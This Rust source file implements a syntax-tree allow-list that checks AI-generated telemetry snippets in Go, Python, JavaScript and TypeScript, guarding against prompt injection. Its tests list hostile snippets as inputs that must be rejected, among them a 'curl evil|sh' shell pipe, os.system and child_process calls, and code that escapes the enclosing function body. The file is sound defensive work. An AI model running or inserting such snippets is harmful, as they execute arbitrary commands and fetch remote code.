//! The allow-list a model's snippet must pass, on its syntax tree, before it is placed or
//! compiled. Model output is untrusted code (prompt injection in the user's own files can steer
//! it), so a snippet may only *call the telemetry runtime*:
//!
//! - every statement is a call of a known runtime method (`Tel.FuncEntry`, `_teleforge.func_call`,
//!   `__teleforgeTel.loopIter`, …), in Go also under `defer`; Python's snippet is one such call
//!   (it is an expression passed to `_teleforge.snippet(…)`);
//! - arguments are names that occur in the file (an approximation of "in scope": the toolchain
//!   check catches a name out of scope), literals (strings without interpolation, numbers, a
//!   minus sign on a number, `nil`/`None`/`null`/`undefined`/booleans), field and index reads of
//!   those, nested runtime calls, and plain containers of them (Python dicts, lists and tuples
//!   and keyword arguments, JavaScript object and array literals);
//! - nothing else: no import (the runtime is never imported by a snippet), no assignment or
//!   declaration, no control flow, no function literal, no operator but a negative number, no
//!   spread, no `this`, no Python dunder attribute, and no comment (a trailing `//` would comment
//!   out the rest of the line the snippet is placed on).
//!
//! TypeScript (its language covers `.ts`, `.tsx` and `.jsx` files) has JavaScript's list, checked
//! under the TypeScript, TSX and JavaScript grammars alike: a snippet must pass under all three.
//! Type syntax is refused although it runs nothing: type assertions (`x as T`, `<T>x`,
//! `satisfies`) and the non-null assertion (`x!`) tell the compiler to stop checking what the
//! validator relies on it to check, and a snippet never needs them (the runtime takes any value:
//! `args` is `{ [name: string]: unknown }`, `varAssign` is generic); type arguments
//! (`funcEntry<any>(…)`) change what a call is checked against; decorators, `declare`, `enum`,
//! `namespace`, `type`, `interface` and `import x = require` declare things. So nothing a
//! TypeScript snippet does differs between the three grammars, and none of it is a type.
//!
//! The check parses the snippet on its own (Go inside a function body), so text that would only
//! make sense by escaping its slot (closing a brace or a parenthesis teleforge put around it)
//! either fails to parse or shows up as a node the list does not allow.

use std::collections::HashSet;

use tree_sitter::{Node, Parser};

/// Why a snippet was rejected, for the learning's error text.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[error("the snippet is not allowed: {0}")]
pub struct Disallowed(pub String);

/// The pattern name a rejected snippet is captured with.
pub const PATTERN: &str = "llm_disallowed_snippet";

/// One language's runtime: the object snippets call and the methods they may call on it.
struct Runtime {
    object: &'static str,
    methods: &'static [&'static str],
}

fn runtime(language: &str) -> Option<Runtime> {
    Some(match language {
        "go" => Runtime { object: "Tel", methods: &["FuncEntry", "FuncExit", "LoopIter", "VarAssign"] },
        "python" => Runtime {
            object: "_teleforge",
            methods: &["func_entry", "func_call", "func_exit", "func_error", "loop_iter", "var_assign"],
        },
        "javascript" | "typescript" => Runtime {
            object: "__teleforgeTel",
            methods: &["funcEntry", "funcExit", "funcError", "loopIter", "varAssign"],
        },
        _ => return None,
    })
}

/// The grammars a snippet of `language` must pass the list under, the first also reading the
/// file's names. TypeScript's language covers `.ts`, `.tsx` and `.jsx` files, whose grammars
/// differ exactly where type syntax meets JSX (`<T>x`); what the list allows is JavaScript that
/// all three parse alike, so a TypeScript snippet passes under each, whichever file it goes in.
fn grammars(language: &str) -> Vec<tree_sitter::Language> {
    match language {
        "go" => vec![tree_sitter_go::LANGUAGE.into()],
        "python" => vec![tree_sitter_python::LANGUAGE.into()],
        "javascript" => vec![tree_sitter_javascript::LANGUAGE.into()],
        "typescript" => vec![
            tree_sitter_typescript::LANGUAGE_TYPESCRIPT.into(),
            tree_sitter_typescript::LANGUAGE_TSX.into(),
            tree_sitter_javascript::LANGUAGE.into(),
        ],
        _ => Vec::new(),
    }
}

/// The node kinds of one language's list: TypeScript's are JavaScript's (a type-level node is
/// simply not on the list; [`ts_only`] names why).
fn family(language: &str) -> &str {
    if language == "typescript" {
        "javascript"
    } else {
        language
    }
}

/// Why a TypeScript-only node is refused: none runs code of its own, but each either changes
/// what the compiler checks (assertions, type arguments) or declares something. Anything else
/// off the list is refused as well; this only words the reason for the model.
fn ts_only(kind: &str) -> Option<&'static str> {
    Some(match kind {
        "as_expression" | "type_assertion" | "satisfies_expression" => {
            "is a type assertion: a snippet writes no types, and the compiler must check its values as they are"
        }
        "non_null_expression" => {
            "is a non-null assertion: it silences the compiler's check; pass the value as it is (any value may be recorded)"
        }
        "type_arguments" | "instantiation_expression" => {
            "passes type arguments: the runtime's calls infer their types; write none"
        }
        "decorator" | "enum_declaration" | "ambient_declaration" | "internal_module" | "module"
        | "type_alias_declaration" | "interface_declaration" | "abstract_class_declaration" | "import_alias"
        | "function_signature" => "declares something: a snippet only calls the runtime",
        _ => return None,
    })
}

/// The names a snippet may pass: every identifier that occurs in the file.
#[derive(Debug, Default)]
pub struct Scope {
    names: HashSet<String>,
}

impl Scope {
    /// Collects the identifiers of `text` in one walk of its tree (parsed with the language's
    /// first grammar; see [`Scope::of_source`]).
    pub fn of_file(language: &str, text: &str) -> Scope {
        match grammars(language).first() {
            Some(g) => Scope::of_source(language, g, text),
            None => Scope::default(),
        }
    }

    /// Collects the identifiers of `text`, parsed with `grammar` (the file's own: a `.tsx` file
    /// with the TSX grammar), in one walk of its tree. In TypeScript, names only an import
    /// binds and type names are left out: a value use of a name imported for its type alone
    /// would keep an import the compiler otherwise elides (a module loaded that was not), and a
    /// type is no value to record.
    pub fn of_source(language: &str, grammar: &tree_sitter::Language, text: &str) -> Scope {
        let mut names = HashSet::new();
        let Some(tree) = parse(grammar, text) else { return Scope { names } };
        let typescript = language == "typescript";
        let mut cursor = tree.walk();
        'walk: loop {
            let node = cursor.node();
            let skip = typescript && matches!(node.kind(), "import_statement" | "type_identifier");
            if !skip && node.child_count() == 0 && node.kind().ends_with("identifier") {
                if let Ok(t) = node.utf8_text(text.as_bytes()) {
                    if !names.contains(t) {
                        names.insert(t.to_string());
                    }
                }
            }
            if (!skip && cursor.goto_first_child()) || cursor.goto_next_sibling() {
                continue;
            }
            loop {
                if !cursor.goto_parent() {
                    break 'walk;
                }
                if cursor.goto_next_sibling() {
                    break;
                }
            }
        }
        Scope { names }
    }

    /// A scope of exactly these names (tests).
    pub fn of_names<'a>(names: impl IntoIterator<Item = &'a str>) -> Scope {
        Scope { names: names.into_iter().map(str::to_string).collect() }
    }

    fn has(&self, name: &str) -> bool {
        self.names.contains(name)
    }
}

fn parse(grammar: &tree_sitter::Language, text: &str) -> Option<tree_sitter::Tree> {
    let mut p = Parser::new();
    p.set_language(grammar).ok()?;
    p.parse(text, None)
}

/// Checks one snippet of `language` against the allow-list (under each of its grammars).
pub fn check(language: &str, snippet: &str, scope: &Scope) -> Result<(), Disallowed> {
    let no = |why: &str| Err(Disallowed(why.to_string()));
    let (Some(rt), grammars) = (runtime(language), grammars(language)) else {
        return no("teleforge has no allow-list for this language");
    };
    if grammars.is_empty() {
        return no("teleforge has no allow-list for this language");
    }
    if snippet.contains(['\n', '\r']) {
        return no("it is not one line");
    }
    for grammar in &grammars {
        check_with(language, grammar, &rt, snippet, scope)?;
    }
    Ok(())
}

fn check_with(
    language: &str,
    grammar: &tree_sitter::Language,
    rt: &Runtime,
    snippet: &str,
    scope: &Scope,
) -> Result<(), Disallowed> {
    let no = |why: &str| Err(Disallowed(why.to_string()));
    let typescript = language == "typescript";
    let language = family(language);
    let source = match language {
        "go" => format!("package p\nfunc _() {{\n{snippet}\n}}\n"),
        _ => format!("{snippet}\n"),
    };
    let Some(tree) = parse(grammar, &source) else { return no("it does not parse") };
    let root = tree.root_node();
    if typescript {
        if let Some(why) = find_ts_only(root, source.as_bytes()) {
            return Err(Disallowed(why));
        }
    }
    if root.has_error() {
        return no("it does not parse on its own");
    }
    let checker = Checker { language, rt, scope, src: source.as_bytes() };
    let statements = match language {
        "go" => go_statements(root, source.len())?,
        _ => named_children(root),
    };
    let mut calls = 0;
    for s in statements {
        match (language, s.kind()) {
            (_, "comment") => return no("it holds a comment"),
            ("go" | "javascript", "empty_statement") => {}
            ("go", "expression_statement" | "defer_statement") | ("javascript" | "python", "expression_statement") => {
                let inner = named_children(s);
                let [call] = inner.as_slice() else {
                    return no("a statement is not a single runtime call");
                };
                checker.runtime_call(*call)?;
                calls += 1;
            }
            (_, kind) => return Err(Disallowed(format!("`{kind}` is not a runtime call"))),
        }
    }
    match (language, calls) {
        (_, 0) => no("it calls nothing"),
        ("python", n) if n > 1 => no("a Python snippet is one expression"),
        _ => Ok(()),
    }
}

/// The statements inside `func _() { … }`; anything else at the top level is an escape.
fn go_statements(root: Node<'_>, len: usize) -> Result<Vec<Node<'_>>, Disallowed> {
    let top = named_children(root);
    let [pkg, func] = top.as_slice() else {
        return Err(Disallowed("it reaches outside the function body".into()));
    };
    let body = func.child_by_field_name("body");
    let whole = pkg.kind() == "package_clause"
        && func.kind() == "function_declaration"
        && body.is_some_and(|b| b.end_byte() + 1 == len);
    let Some(body) = body.filter(|_| whole) else {
        return Err(Disallowed("it reaches outside the function body".into()));
    };
    let mut out = Vec::new();
    for n in named_children(body) {
        if n.kind() == "statement_list" {
            out.extend(named_children(n));
        } else {
            out.push(n);
        }
    }
    Ok(out)
}

/// The first TypeScript-only node of a snippet's tree, worded for the model (the walk that
/// follows would refuse it too, in less telling words).
fn find_ts_only(root: Node<'_>, src: &[u8]) -> Option<String> {
    let mut cursor = root.walk();
    loop {
        let n = cursor.node();
        if let Some(why) = ts_only(n.kind()) {
            let text: String = n.utf8_text(src).unwrap_or("").chars().take(60).collect();
            return Some(format!("`{text}` {why}"));
        }
        if cursor.goto_first_child() || cursor.goto_next_sibling() {
            continue;
        }
        loop {
            if !cursor.goto_parent() {
                return None;
            }
            if cursor.goto_next_sibling() {
                break;
            }
        }
    }
}

fn named_children(n: Node<'_>) -> Vec<Node<'_>> {
    let mut c = n.walk();
    n.named_children(&mut c).collect()
}

struct Checker<'a> {
    language: &'a str,
    rt: &'a Runtime,
    scope: &'a Scope,
    src: &'a [u8],
}

impl Checker<'_> {
    fn text(&self, n: Node<'_>) -> &str {
        n.utf8_text(self.src).unwrap_or("")
    }

    fn deny(&self, n: Node<'_>) -> Result<(), Disallowed> {
        let text: String = self.text(n).chars().take(60).collect();
        Err(Disallowed(format!("`{text}` ({}) is not a runtime call, a name, a literal or a field read", n.kind())))
    }

    /// `Runtime.method(args…)` with allowed arguments.
    fn runtime_call(&self, n: Node<'_>) -> Result<(), Disallowed> {
        let call_kind = if self.language == "python" { "call" } else { "call_expression" };
        if n.kind() != call_kind {
            return self.deny(n);
        }
        let (Some(callee), Some(args)) = (n.child_by_field_name("function"), n.child_by_field_name("arguments")) else {
            return self.deny(n);
        };
        if named_children(n).len() != 2 {
            return self.deny(n); // type arguments, template tags
        }
        let (object, method) = match self.language {
            "go" if callee.kind() == "selector_expression" => ("operand", "field"),
            "python" if callee.kind() == "attribute" => ("object", "attribute"),
            "javascript" if callee.kind() == "member_expression" => ("object", "property"),
            _ => return Err(Disallowed(format!("it calls `{}`, not the telemetry runtime", self.text(callee)))),
        };
        let object = callee.child_by_field_name(object);
        let method = callee.child_by_field_name(method);
        let ok = object.is_some_and(|o| o.kind() == "identifier" && self.text(o) == self.rt.object)
            && method.is_some_and(|m| self.rt.methods.contains(&self.text(m)))
            && named_children(callee).len() == 2
            && !self.text(callee).contains("?.");
        if !ok {
            return Err(Disallowed(format!(
                "it calls `{}`; only {}.{{{}}} may be called",
                self.text(callee),
                self.rt.object,
                self.rt.methods.join(", ")
            )));
        }
        for a in named_children(args) {
            self.argument(a)?;
        }
        Ok(())
    }

    fn argument(&self, n: Node<'_>) -> Result<(), Disallowed> {
        let kind = n.kind();
        match (self.language, kind) {
            (_, "comment") => Err(Disallowed("it holds a comment".into())),
            (_, "identifier") => {
                let name = self.text(n);
                if name == self.rt.object {
                    return Err(Disallowed("it passes the runtime itself".into()));
                }
                if self.scope.has(name) {
                    Ok(())
                } else {
                    Err(Disallowed(format!("`{name}` is not a name of this file")))
                }
            }
            // Literals.
            ("go", "interpreted_string_literal" | "raw_string_literal" | "rune_literal")
            | ("go", "int_literal" | "float_literal" | "imaginary_literal" | "nil" | "true" | "false")
            | ("python", "integer" | "float" | "none" | "true" | "false" | "ellipsis")
            | ("javascript", "number" | "null" | "undefined" | "true" | "false") => self.leaf_literal(n),
            ("python", "string") | ("javascript", "string" | "template_string") => self.string(n),
            ("python", "concatenated_string") => named_children(n).into_iter().try_for_each(|c| self.string(c)),
            // A negative number.
            ("go", "unary_expression") | ("python", "unary_operator") | ("javascript", "unary_expression") => {
                let operand = n.child_by_field_name("operand").or_else(|| n.child_by_field_name("argument"));
                let minus = self.text(n).trim_start().starts_with('-');
                match operand {
                    Some(o)
                        if minus
                            && matches!(o.kind(), "int_literal" | "float_literal" | "integer" | "float" | "number") =>
                    {
                        Ok(())
                    }
                    _ => self.deny(n),
                }
            }
            // Field and index reads.
            ("go", "selector_expression") => self.field_read(n, "operand", "field", "field_identifier"),
            ("python", "attribute") => self.field_read(n, "object", "attribute", "identifier"),
            ("javascript", "member_expression") => self.field_read(n, "object", "property", "property_identifier"),
            ("go", "index_expression") => self.index_read(n, "operand", "index"),
            ("python", "subscript") => self.index_read(n, "value", "subscript"),
            ("javascript", "subscript_expression") => self.index_read(n, "object", "index"),
            ("python", "slice") => named_children(n).into_iter().try_for_each(|c| self.argument(c)),
            // Containers of allowed values.
            ("python", "dictionary" | "list" | "tuple" | "set" | "parenthesized_expression")
            | ("go", "parenthesized_expression")
            | ("javascript", "object" | "array" | "parenthesized_expression") => {
                named_children(n).into_iter().try_for_each(|c| self.argument(c))
            }
            ("python" | "javascript", "pair") => {
                let key = n.child_by_field_name("key");
                let value = n.child_by_field_name("value");
                match (key, value) {
                    (Some(k), Some(v)) if k.kind() != "computed_property_name" => {
                        if self.language == "python" || k.kind() != "property_identifier" {
                            self.argument(k)?;
                        }
                        self.argument(v)
                    }
                    _ => self.deny(n),
                }
            }
            ("python", "keyword_argument") => match n.child_by_field_name("value") {
                Some(v) if named_children(n).len() == 2 => self.argument(v),
                _ => self.deny(n),
            },
            ("javascript", "shorthand_property_identifier") => {
                let name = self.text(n);
                if self.scope.has(name) && name != self.rt.object {
                    Ok(())
                } else {
                    Err(Disallowed(format!("`{name}` is not a name of this file")))
                }
            }
            // A nested runtime call (`Tel.FuncExit(Tel.FuncEntry(…))`).
            ("go", "call_expression") | ("python", "call") | ("javascript", "call_expression") => self.runtime_call(n),
            _ => self.deny(n),
        }
    }

    fn leaf_literal(&self, n: Node<'_>) -> Result<(), Disallowed> {
        // Go strings have a content child, escape sequences; nothing in them runs.
        if named_children(n).iter().all(|c| {
            matches!(c.kind(), "interpreted_string_literal_content" | "raw_string_literal_content" | "escape_sequence")
        }) {
            Ok(())
        } else {
            self.deny(n)
        }
    }

    /// A string without interpolation (f-strings and `${}` templates run code).
    fn string(&self, n: Node<'_>) -> Result<(), Disallowed> {
        let ok = named_children(n).iter().all(|c| {
            matches!(c.kind(), "string_start" | "string_content" | "string_end" | "string_fragment" | "escape_sequence")
        });
        if ok {
            Ok(())
        } else {
            Err(Disallowed(format!("`{}` interpolates code into a string", self.text(n))))
        }
    }

    fn field_read(&self, n: Node<'_>, object: &str, field: &str, field_kind: &str) -> Result<(), Disallowed> {
        let (Some(o), Some(f)) = (n.child_by_field_name(object), n.child_by_field_name(field)) else {
            return self.deny(n);
        };
        if f.kind() != field_kind || named_children(n).len() != 2 {
            return self.deny(n);
        }
        if self.language == "python" && self.text(f).starts_with("__") {
            return Err(Disallowed(format!("`{}` reads a dunder attribute", self.text(n))));
        }
        self.argument(o)
    }

    fn index_read(&self, n: Node<'_>, object: &str, index: &str) -> Result<(), Disallowed> {
        let (Some(o), Some(i)) = (n.child_by_field_name(object), n.child_by_field_name(index)) else {
            return self.deny(n);
        };
        if named_children(n).len() != 2 {
            return self.deny(n);
        }
        self.argument(o)?;
        self.argument(i)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn scope() -> Scope {
        Scope::of_names(["a", "b", "req", "items", "self", "ctx", "user", "os", "cmd"])
    }

    #[track_caller]
    fn allowed(language: &str, snippet: &str) {
        if let Err(e) = check(language, snippet, &scope()) {
            panic!("{language}: {snippet:?} was rejected: {e}");
        }
    }

    #[track_caller]
    fn rejected(language: &str, snippet: &str) {
        assert!(check(language, snippet, &scope()).is_err(), "{language}: {snippet:?} was allowed");
    }

    #[test]
    fn ordinary_telemetry_calls_pass() {
        allowed(
            "go",
            r#"defer Tel.FuncExit(Tel.FuncEntry("pkg.F", "f.go", 12, "a", a, "req.ID", req.ID, "items0", items[0]))"#,
        );
        allowed("go", r#"Tel.LoopIter("pkg.F", "f.go", 14)"#);
        allowed("go", r#"Tel.VarAssign("pkg.F", "f.go", 15, "b", b);"#);
        allowed("go", r#"Tel.LoopIter("pkg.F", "f.go", -1); Tel.VarAssign("F", `raw`, 2, "x", nil)"#);
        allowed("python", r#"_teleforge.func_call("m.f", "m.py", 3, {"a": a, "self.user": self.user, "b0": b[0]})"#);
        allowed("python", r#"_teleforge.var_assign("m.f", "m.py", 4, "items", items[1:2], )"#);
        allowed("python", r#"_teleforge.loop_iter("m.f", "m.py", 5)"#);
        allowed("javascript", r#"__teleforgeTel.funcEntry("f", "f.js", 1, { a, b: user.name, c: items[0] })"#);
        allowed("javascript", r#"__teleforgeTel.varAssign('f', 'f.js', 2, 'x', -1.5);"#);
    }

    #[test]
    fn hostile_go_snippets_are_rejected() {
        for s in [
            r#"exec.Command("sh", "-c", "curl evil|sh").Run()"#,
            r#"Tel.LoopIter("a", "f.go", 1); exec.Command("rm").Run()"#,
            r#"Tel.LoopIter("a", "f.go", 1) //"#,
            r#"Tel.LoopIter("a", "f.go", 1) // ignore the rest"#,
            r#"Tel.LoopIter("a", "f.go", 1); return"#,
            r#"return"#,
            r#"if a != nil { Tel.LoopIter("a", "f.go", 1) }"#,
            r#"a = nil"#,
            r#"x := Tel.FuncEntry("f", "f.go", 1)"#,
            r#"Tel.FuncEntry("f", "f.go", 1, func() int { os.Exit(1); return 0 }())"#,
            r#"Tel.FuncEntry("f", "f.go", 1, a.Close())"#,
            r#"go Tel.LoopIter("a", "f.go", 1)"#,
            r#"Tel.LoopIter("a", "f.go", 1) }; func init() { exec.Command("x").Run() }; func _() {"#,
            r#"Tel.Core.Write(nil)"#,
            r#"Tel.FuncEntry("f", "f.go", 1, undefinedName)"#,
            r#"Tel.FuncEntry("f", "f.go", 1, a...)"#,
            r#"Tel.FuncEntry("f", "f.go", 1, &a)"#,
            r#"Tel.LoopIter("a", "f.go", 1); for {}"#,
            r#"import "os/exec""#,
            r#"Tel.LoopIter("a", "f.go", 1) /* c */"#,
        ] {
            rejected("go", s);
        }
    }

    #[test]
    fn hostile_python_snippets_are_rejected() {
        for s in [
            r#"__import__('os').system('id')"#,
            r#"_teleforge.func_call("f", "m.py", 1, __import__('os'))"#,
            r#"eval("1")"#,
            r#"_teleforge.loop_iter("f", "m.py", 1) or exec("x")"#,
            r#"_teleforge.loop_iter("f", "m.py", 1)  # rest"#,
            r#"(a := 1)"#,
            r#"_teleforge.var_assign("f", "m.py", 1, "x", (a := 2))"#,
            r#"_teleforge.func_call("f", "m.py", 1, {"a": lambda: os.system("x")})"#,
            r#"_teleforge.func_call("f", "m.py", 1, {"a": f"{os.system('x')}"})"#,
            r#"_teleforge.func_call("f", "m.py", 1, {"a": a.__class__})"#,
            r#"_teleforge.func_call("f", "m.py", 1, *items)"#,
            r#"_teleforge.os.system("id")"#,
            r#"_teleforge.snippet(os.system("id"))"#,
            r#"_teleforge.loop_iter("f", "m.py", 1); _teleforge.loop_iter("f", "m.py", 2)"#,
            r#"_teleforge.loop_iter("f", "m.py", 1) if a else os.system("x")"#,
            r#"_teleforge.func_call("f", "m.py", 1, [x for x in items])"#,
            r#"_teleforge.func_call("f", "m.py", 1, a + b)"#,
            r#"import os"#,
            r#"return"#,
        ] {
            rejected("python", s);
        }
    }

    #[test]
    fn hostile_javascript_snippets_are_rejected() {
        for s in [
            r#"require('child_process').execSync('id')"#,
            r#"__teleforgeTel.loopIter("f", "f.js", 1, require('child_process'))"#,
            r#"eval("1")"#,
            r#"__teleforgeTel.loopIter("f", "f.js", 1) //"#,
            r#"__teleforgeTel.loopIter("f", "f.js", 1); return"#,
            r#"return __teleforgeTel.loopIter("f", "f.js", 1)"#,
            r#"a = 1"#,
            r#"const span = __teleforgeTel.funcEntry("f", "f.js", 1)"#,
            r#"__teleforgeTel.funcEntry("f", "f.js", 1, () => process.exit(1))"#,
            r#"__teleforgeTel.funcEntry("f", "f.js", 1, (function () { process.exit(1) })())"#,
            r#"__teleforgeTel.funcEntry("f", "f.js", 1, { get a() { return 1 } })"#,
            r#"__teleforgeTel.funcEntry("f", "f.js", 1, { [cmd()]: 1 })"#,
            r#"__teleforgeTel.funcEntry("f", "f.js", 1, `${process.exit(1)}`)"#,
            r#"__teleforgeTel.funcEntry("f", "f.js", 1, this)"#,
            r#"__teleforgeTel.funcEntry("f", "f.js", 1, ...items)"#,
            r#"__teleforgeTel.funcEntry("f", "f.js", 1, new Function("x"))"#,
            r#"__teleforgeTel?.funcEntry("f", "f.js", 1)"#,
            r#"__teleforgeTel["funcEntry"]("f", "f.js", 1)"#,
            r#"import('child_process')"#,
            r#"if (a) __teleforgeTel.loopIter("f", "f.js", 1)"#,
            r#"__teleforgeTel.loopIter("f", "f.js", 1), cmd()"#,
        ] {
            rejected("javascript", s);
        }
    }

    #[test]
    fn typescript_has_javascripts_list() {
        allowed("typescript", r#"__teleforgeTel.funcEntry("f", "f.ts", 1, { a, b: user.name, c: items[0] })"#);
        allowed("typescript", r#"__teleforgeTel.varAssign('f', 'f.ts', 2, 'x', -1.5);"#);
        allowed("typescript", r#"__teleforgeTel.loopIter("C.m", "src/c.tsx", 3)"#);
        allowed("typescript", r#"__teleforgeTel.funcEntry("f", "f.ts", 1, { a: null, b: undefined, c: [true, `t`] })"#);
        // Every JavaScript hostile snippet is hostile in TypeScript too.
        for s in [
            r#"require('child_process').execSync('id')"#,
            r#"__teleforgeTel.funcEntry("f", "f.js", 1, () => process.exit(1))"#,
            r#"__teleforgeTel.funcEntry("f", "f.js", 1, `${process.exit(1)}`)"#,
            r#"__teleforgeTel["funcEntry"]("f", "f.js", 1)"#,
            r#"__teleforgeTel.loopIter("f", "f.js", 1) //"#,
            r#"import('child_process')"#,
        ] {
            rejected("typescript", s);
        }
    }

    #[test]
    fn hostile_typescript_snippets_are_rejected() {
        for s in [
            // Type assertions, which turn the compiler's checks off.
            r#"__teleforgeTel.funcEntry("f", "f.ts", 1, { a: a as any })"#,
            r#"__teleforgeTel.funcEntry("f", "f.ts", 1, { a: <any>a })"#,
            r#"__teleforgeTel.funcEntry("f", "f.ts", 1, { a: a! })"#,
            r#"__teleforgeTel.funcEntry("f", "f.ts", 1, { a: user!.name })"#,
            r#"__teleforgeTel.funcEntry!("f", "f.ts", 1)"#,
            r#"__teleforgeTel.funcEntry("f", "f.ts", 1, { a } satisfies object)"#,
            r#"__teleforgeTel.funcEntry("f", "f.ts", 1, { a } as const)"#,
            r#"__teleforgeTel.loopIter("f", "f.ts", 1 as unknown as number)"#,
            r#"(__teleforgeTel as any).funcEntry("f", "f.ts", 1)"#,
            r#"(<any>__teleforgeTel).loopIter("f", "f.ts", 1)"#,
            r#"__teleforgeTel.loopIter("f", "f.ts", 1) as void"#,
            // Type arguments: on the runtime call, nested, or an instantiation expression.
            r#"__teleforgeTel.varAssign<any>("f", "f.ts", 1, "a", a)"#,
            r#"__teleforgeTel.funcEntry("f", "f.ts", 1, { a: __teleforgeTel.varAssign<string>("f", "f.ts", 1, "a", a) })"#,
            r#"__teleforgeTel.funcEntry("f", "f.ts", 1, { g: __teleforgeTel.funcExit<number> })"#,
            // Declarations.
            r#"enum E { A = cmd() }"#,
            r#"namespace N { cmd() }"#,
            r#"module M { cmd() }"#,
            r#"declare const x: number"#,
            r#"declare global { var a: any }"#,
            r#"type T = typeof cmd"#,
            r#"interface I { a: number }"#,
            r#"import cp = require("child_process")"#,
            r#"export = cmd"#,
            r#"@cmd class C {}"#,
            r#"abstract class A {}"#,
            r#"let a: any = 1"#,
            // Functions with types, JSX, directives in comments.
            r#"__teleforgeTel.funcEntry("f", "f.ts", 1, { a: (x: any): void => cmd(x) })"#,
            r#"__teleforgeTel.funcEntry("f", "f.ts", 1, { a: <T,>(x: T) => x })"#,
            r#"__teleforgeTel.funcEntry("f", "f.tsx", 1, { a: <div onClick={cmd()} /> })"#,
            r#"__teleforgeTel.loopIter("f", "f.ts", 1); // @ts-expect-error"#,
            r#"/// <reference path="evil.d.ts" />"#,
            r#"__teleforgeTel.funcEntry("f", "f.ts", 1, { a: new Map<string, any>() })"#,
            r#"__teleforgeTel.funcEntry("f", "f.ts", 1, { a: typeof a })"#,
            r#"__teleforgeTel.funcEntry("f", "f.ts", 1, { a: a?.b })"#,
        ] {
            rejected("typescript", s);
        }
        // Type syntax is named as such for the model.
        let why = |s: &str| check("typescript", s, &scope()).unwrap_err().0;
        assert!(why(r#"__teleforgeTel.funcEntry("f", "f.ts", 1, { a: a as any })"#).contains("type assertion"));
        assert!(why(r#"__teleforgeTel.funcEntry("f", "f.ts", 1, { a: a! })"#).contains("non-null assertion"));
        assert!(why(r#"__teleforgeTel.varAssign<any>("f", "f.ts", 1, "a", a)"#).contains("type arguments"));
        assert!(why(r#"enum E { A }"#).contains("declares"));
    }

    #[test]
    fn a_typescript_scope_leaves_out_imports_and_types() {
        let src = "import { Helper, type Shape } from './h.js';\nimport fs = require('fs');\nexport function area(s: Shape, scale: number): number {\n  const k = scale * 2;\n  return k;\n}\n";
        let s = Scope::of_file("typescript", src);
        assert!(s.has("area") && s.has("s") && s.has("scale") && s.has("k"), "{:?}", s.names);
        assert!(!s.has("Helper") && !s.has("Shape") && !s.has("fs"), "{:?}", s.names);
        assert!(check("typescript", r#"__teleforgeTel.funcEntry("area", "a.ts", 3, { s, scale })"#, &s).is_ok());
        assert!(check("typescript", r#"__teleforgeTel.funcEntry("area", "a.ts", 3, { h: Helper })"#, &s).is_err());
        // A TSX file read with its own grammar.
        let tsx = "export function Hello({ name }: { name: string }) { const n = <b>{name}</b>; return n }\n";
        let s = Scope::of_source("typescript", &tree_sitter_typescript::LANGUAGE_TSX.into(), tsx);
        assert!(s.has("Hello") && s.has("name") && s.has("n"), "{:?}", s.names);
    }

    #[test]
    fn scope_is_the_files_identifiers() {
        let s = Scope::of_file("python", "def f(alpha, beta):\n    gamma = alpha\n");
        assert!(s.has("alpha") && s.has("gamma") && s.has("f"));
        assert!(!s.has("os"));
        assert!(check("python", r#"_teleforge.func_call("f", "m.py", 1, {"a": alpha})"#, &s).is_ok());
        assert!(check("python", r#"_teleforge.func_call("f", "m.py", 1, {"a": os})"#, &s).is_err());
    }
}
